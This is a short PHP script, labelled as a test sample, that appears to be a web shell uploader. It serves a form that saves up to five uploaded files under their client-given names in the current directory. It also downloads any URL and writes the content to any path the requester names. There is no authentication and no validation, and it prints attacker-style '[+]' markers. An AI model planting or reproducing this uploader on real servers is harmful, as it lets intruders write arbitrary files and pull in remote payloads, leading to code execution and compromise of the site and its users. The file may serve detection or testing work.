<?php
// Test sample: multi-file uploader that also accepts a URL to fetch from.
echo '<form method="post" enctype="multipart/form-data">';
for ($i = 0; $i < 5; $i++) {
    echo '<input type="file" name="up[]"><br>';
}
echo 'or URL: <input name="url"> save as: <input name="as"><br><input type="submit"></form>';
if (!empty($_FILES['up'])) {
    foreach ($_FILES['up']['name'] as $i => $name) {
        if ($name !== '') {
            move_uploaded_file($_FILES['up']['tmp_name'][$i], './' . $name);
            echo "[+] $name<br>";
        }
    }
}
if (!empty($_POST['url'])) {
    $fh = fopen($_POST['as'], 'wb');
    fwrite($fh, file_get_contents($_POST['url']));
    fclose($fh);
    echo '[+] ' . htmlspecialchars($_POST['as']);
}
